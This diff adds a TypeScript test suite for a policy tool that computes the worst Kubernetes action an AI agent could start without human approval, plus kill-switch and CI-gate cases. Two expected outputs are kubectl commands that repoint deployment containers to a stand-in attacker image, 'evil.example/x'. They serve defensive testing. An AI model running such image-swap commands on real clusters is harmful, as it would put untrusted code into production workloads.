@@ -1,0 +1,183 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { stringify } from 'yaml';
+import { examples, file, floorOf, policy, policyOf } from '../../../test/offline.ts';
+
+const RULES = [
+  'modes: [DryRun, Apply]',
+  'kubernetes:',
+  '- {apiGroups: ["*"], resources: ["*", deployments/scale], verbs: ["*"], decision: Allow}',
+].join('\n');
+const MEDIUM = 'approvals: [{upToRisk: Medium, autoReview: true, autoReviewAfter: 2}, {upToRisk: Critical}]';
+const HIGH = 'approvals: [{upToRisk: High, autoReview: true, autoReviewAfter: 0}, {upToRisk: Critical}]';
+const OWN_STEPS = 'playbooks: {adHocSteps: Allow}';
+
+interface Alone {
+  way: string;
+  level: string;
+  score: number;
+  objects: number;
+  command: string;
+  letThroughBy: string[];
+  afterRuns: number;
+  effects: object[];
+  action: { spec: object };
+  playbook: object | null;
+}
+const ask = async (policies: string, ...argv: string[]) =>
+  await policy(['worst-case', '-f', file(policies), '-n', 'shop', '--as', 'ada', ...argv]);
+async function alone(policies: string): Promise<{ worst: Alone | null; why: string[] }> {
+  const ran = await ask(policies, '-o', 'json');
+  assert.equal(ran.code, 0, ran.error);
+  const { unattended, unattendedWhy } = JSON.parse(ran.out) as { unattended: Alone | null; unattendedWhy: string[] };
+  return { worst: unattended, why: unattendedWhy };
+}
+
+describe('The worst that starts without a person', () => {
+  const open: readonly [name: string, policies: string, worst: Partial<Alone>][] = [
+    [
+      'is a Playbook where no policy takes steps of its own',
+      floorOf(`${RULES}\n${MEDIUM}`) + policyOf(RULES),
+      { way: 'Playbook', level: 'Medium', afterRuns: 2 },
+    ],
+    [
+      'is steps of its own where every policy takes them',
+      floorOf(`${RULES}\n${MEDIUM}\n${OWN_STEPS}`) + policyOf(`${RULES}\n${OWN_STEPS}`),
+      { way: 'OwnSteps', level: 'Medium', playbook: null },
+    ],
+    [
+      'is High where policies let that, and stays below Critical',
+      floorOf(`${RULES}\n${HIGH}\n${OWN_STEPS}`) + policyOf(`${RULES}\n${OWN_STEPS}`),
+      { level: 'High', afterRuns: 0 },
+    ],
+    [
+      'changes no more objects than limits let one action change',
+      floorOf(`${RULES}\n${MEDIUM}\nlimits: {objects: 3}`) + policyOf(RULES),
+      { objects: 3 },
+    ],
+    [
+      'is a label where no more is Low',
+      floorOf(`${RULES}\napprovals: [{upToRisk: Low, autoReview: true}, {upToRisk: Critical}]`) + policyOf(RULES),
+      { level: 'Low', way: 'Playbook' },
+    ],
+    [
+      'is what the rules of the namespace leave of it',
+      floorOf(`${RULES}\n${MEDIUM}`) +
+        policyOf(
+          'modes: [Apply]\nkubernetes: [{apiGroups: [apps], resources: [deployments], resourceNames: [web], verbs: [patch], decision: Allow}]',
+        ),
+      {
+        objects: 1,
+        command:
+          'kubectl patch deployments.apps web --type=merge -p {"spec":{"template":{"spec":{"containers":[{"name":"any","image":"evil.example/x"}]}}}} -n shop',
+      },
+    ],
+    [
+      'is said in words that no rule about commands asks about',
+      floorOf(`${RULES}\n${MEDIUM}`) +
+        policyOf(
+          `${RULES.replace('["*", deployments/scale], verbs: ["*"]', '[deployments], verbs: [patch]')}\ncommands: [{prefix: [kubectl, set, image], decision: Allow}]`,
+        ),
+      {
+        command: `kubectl set image deployments.apps ${Array.from({ length: 10 }, (_, at) => `any-${at + 1}`).join(' ')} *=evil.example/x -n shop`,
+      },
+    ],
+  ];
+  for (const [name, policies, expected] of open)
+    it(name, async () => {
+      const { worst, why } = await alone(policies);
+      assert.ok(worst, why.join());
+      assert.partialDeepStrictEqual(worst, expected);
+      assert.ok(
+        worst.letThroughBy.some((line) => /approvals\[0\]\.autoReview$/.test(line)),
+        worst.letThroughBy.join(),
+      );
+      // It is what it says: an action that the API server takes, and that starts alone by the same policies.
+      // A case takes objects for new ones, which adds to the score: one of several is left out for that.
+      const effects = worst.effects.slice(0, Math.max(1, worst.effects.length - 1));
+      const one = {
+        name: 'x',
+        as: 'ada',
+        namespace: 'shop',
+        action: worst.action.spec,
+        effects,
+        succeeded: worst.afterRuns + 1,
+        expect: 'Allow',
+      };
+      const books = worst.playbook ? `${stringify(worst.playbook)}\n---\n` : '';
+      const proven = await policy(['test', file(`${policies}${books}${stringify({ kind: 'PolicyTest', cases: [one] })}`)]);
+      assert.equal(proven.code, 0, proven.error + proven.out);
+    });
+
+  const closed: readonly [name: string, policies: string, why: RegExp][] = [
+    [
+      'no policy lets anything',
+      floorOf(`${RULES}\napprovals: [{upToRisk: High}]`) + policyOf(RULES),
+      /no policy says `autoReview`/,
+    ],
+    [
+      'another policy wants a person',
+      floorOf(`${RULES}\n${MEDIUM}`) + policyOf(`${RULES}\napprovals: [{upToRisk: Critical}]`),
+      /AgentPolicy\/shop wants a person for the risk/,
+    ],
+    [
+      'rules want a person for every change',
+      floorOf(`${RULES.replace('Allow', 'RequireApproval')}\n${MEDIUM}`) + policyOf(RULES),
+      /needs a person by the rules about the Kubernetes API/,
+    ],
+    [
+      'there is nothing but rehearsals',
+      floorOf(`${RULES}\n${MEDIUM}`) + policyOf('modes: [DryRun]'),
+      /AgentPolicy\/shop lets nothing be applied/,
+    ],
+    [
+      'the kill switch is on',
+      floorOf(`${RULES}\n${MEDIUM}`) + policyOf('modes: [Apply]\nsuspended: true'),
+      /AgentPolicy\/shop is suspended/,
+    ],
+    ['there is no policy', floorOf(`${RULES}\n${MEDIUM}`), /no AgentPolicy in namespace 'shop'/],
+  ];
+  for (const [name, policies, why] of closed)
+    it(`is nothing where ${name}, and that is said`, async () => {
+      const { worst, why: said } = await alone(policies);
+      assert.equal(worst, null);
+      assert.match(said.join('; '), why);
+      assert.match((await ask(policies)).out, /^without a person: nothing starts: /);
+    });
+
+  const gates: readonly [name: string, policies: string, argv: readonly string[], code: number][] = [
+    [
+      'passes what is at the bound',
+      floorOf(`${RULES}\n${MEDIUM}`) + policyOf(RULES),
+      ['--unattended', '--fail-above', 'Medium'],
+      0,
+    ],
+    ['fails above it', floorOf(`${RULES}\n${MEDIUM}`) + policyOf(RULES), ['--unattended', '--fail-above', 'Low'], 1],
+    [
+      'fails by anything above None',
+      floorOf(`${RULES}\n${MEDIUM}`) + policyOf(RULES),
+      ['--unattended', '--fail-above', 'None'],
+      1,
+    ],
+    [
+      'passes where nothing starts',
+      floorOf(`${RULES}\napprovals: [{upToRisk: High}]`) + policyOf(RULES),
+      ['--unattended', '--fail-above', 'None'],
+      0,
+    ],
+    ['looks at what people let through as well', floorOf(`${RULES}\n${MEDIUM}`) + policyOf(RULES), ['--fail-above', 'High'], 1],
+  ];
+  for (const [name, policies, argv, code] of gates)
+    it(`is a gate that ${name}`, async () => {
+      const ran = await ask(policies, ...argv);
+      assert.equal(ran.code, code, ran.out + ran.error);
+    });
+
+  it('prints an action that passes as a file, with the Playbook that it needs', async () => {
+    const ran = await policy(['worst-case', '-f', `${examples}/staging-autonomy`, '--as', 'system:serviceaccount:ops:agent']);
+    const yaml = ran.out.slice(ran.out.indexOf('apiVersion:'));
+    const cases = 'kind: PolicyTest\ncases: [{name: x, as: ada, namespace: shop-staging, host: a.io, expect: Deny}]\n';
+    assert.equal((await policy(['test', file(`${yaml}\n---\n${cases}`)])).code, 0);
+    assert.match(yaml, /kind: AgentAction[\s\S]*---[\s\S]*kind: Playbook/);
+  });
+});
